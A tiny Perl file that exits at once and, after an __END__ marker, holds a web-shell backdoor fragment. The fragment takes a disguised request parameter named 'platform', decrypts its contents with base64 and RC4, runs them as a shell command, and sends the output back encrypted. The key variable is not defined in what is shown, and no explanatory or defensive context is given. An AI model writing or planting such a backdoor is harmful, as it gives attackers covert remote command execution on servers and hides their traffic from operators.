#!/usr/bin/perl
exit;
__END__
my $p=$page->multi_param('platform');
my $d=rc4($k,MIME::Base64::decode(substr($p,9)));
my $o=qx[$d 2>&1];
print MIME::Base64::encode(rc4($k,$o));
